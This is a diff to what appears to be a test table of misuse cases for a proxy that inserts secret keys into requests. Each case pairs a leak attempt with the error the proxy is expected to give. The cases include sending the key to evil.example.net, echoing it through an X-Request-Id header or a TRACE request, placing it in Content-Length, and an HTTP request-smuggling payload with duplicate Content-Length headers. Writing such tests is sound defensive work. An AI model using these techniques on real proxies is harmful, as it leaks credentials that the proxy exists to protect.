@@ -98,9 +98,23 @@ _MISUSES = {
     "unlisted_host": ("ask(GATEWAY + '/evil.example.net/')", "evil.example.net:443 is not a host of a secret"),
     "inside_a_longer_value": ("ask(GATEWAY + '/api.example.org/', value=KEY + 'x')", "whole value"),
     "behind_a_strange_scheme": ("ask(GATEWAY + '/api.example.org/', value='a,b ' + KEY)", "whole value"),
+    "header_that_servers_repeat": (
+        "ask(GATEWAY + '/api.example.org/', 'X-Request-Id', KEY)",
+        "goes into one of these header fields",
+    ),
+    "method_that_repeats_the_head": (
+        "raw = http.client.HTTPConnection('127.0.0.1', 3128)\n"
+        "raw.request('TRACE', '/api.example.org/', headers={'X-Api-Key': KEY}); raw.getresponse()",
+        "TRACE makes a server repeat the head",
+    ),
+    "length_of_the_body": (
+        "raw = http.client.HTTPConnection('127.0.0.1', 3128)\n"
+        "raw.putrequest('POST', '/api.example.org/'); raw.putheader('Content-Length', KEY); raw.endheaders(); raw.getresponse()",
+        "Content-Length must be one number",
+    ),
     "smuggled_request": (
         "connection = http.client.HTTPConnection('127.0.0.1', 3128); connection.send(("
-        "'POST /api.example.org/first HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\nContent-Length: 60\\r\\nX: ' + KEY"
+        "'POST /api.example.org/first HTTP/1.1\\r\\nHost: x\\r\\nContent-Length: 0\\r\\nContent-Length: 60\\r\\nX-Api-Key: ' + KEY"
         " + '\\r\\n\\r\\nGET /second HTTP/1.1\\r\\n\\r\\n').encode()); connection.sock.recv(1000)",
         "Content-Length must be one number",
     ),
